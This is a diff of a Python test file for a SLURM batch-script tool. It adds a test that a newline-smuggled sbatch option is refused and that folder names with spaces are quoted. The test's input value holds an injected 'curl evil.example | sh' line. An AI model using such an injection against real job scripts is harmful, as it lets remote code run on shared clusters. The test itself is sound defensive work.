@@ -11,6 +11,7 @@ from __future__ import annotations
 import json
 import subprocess
 import threading
+from dataclasses import replace
 from pathlib import Path
 
 import jsonschema
@@ -472,3 +473,12 @@ def test_doctor_says_which_nodes_take_jobs(fake: Path, project: Path) -> None:
     (check,) = doctor._host_checks(load_config(project))
     assert (check.name, check.ok) == ("host cluster", True)
     assert check.detail == "SLURM: 1 node(s) of partition debug take jobs (n1)"
+
+
+def test_an_option_that_would_add_lines_to_the_script_is_refused(tmp_path: Path) -> None:
+    injected = replace(_plan(tmp_path), sbatch=("--mem=1G\ncurl evil.example | sh",))
+    with pytest.raises(ConfigError, match="cannot be written into a batch script"):
+        script.render(injected)
+    # Spaces in a folder's name are quoted, as sbatch reads them.
+    text = script.render(_plan(tmp_path))
+    assert f'#SBATCH --chdir="{tmp_path}/my job"\n' in text
